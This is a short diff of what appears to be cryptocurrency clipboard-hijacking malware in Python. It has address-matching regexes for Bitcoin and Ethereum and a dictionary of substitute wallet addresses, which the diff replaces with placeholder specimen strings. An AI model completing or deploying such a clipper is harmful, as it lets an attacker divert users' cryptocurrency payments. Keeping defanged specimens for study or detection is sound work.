@@ -2,7 +2,7 @@ import re, time, threading, pyperclip, requests
 
 BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")
 ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
-MINE = {"btc": "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "eth": "0x52908400098527886E0F7030069857D2E4169EE7"}
+MINE = {"btc": "bc1qspecimen0clipper0example0address0xxxxx", "eth": "0x000000000000000000000000000000000000C11p"}
 
 def guard():
     while True:
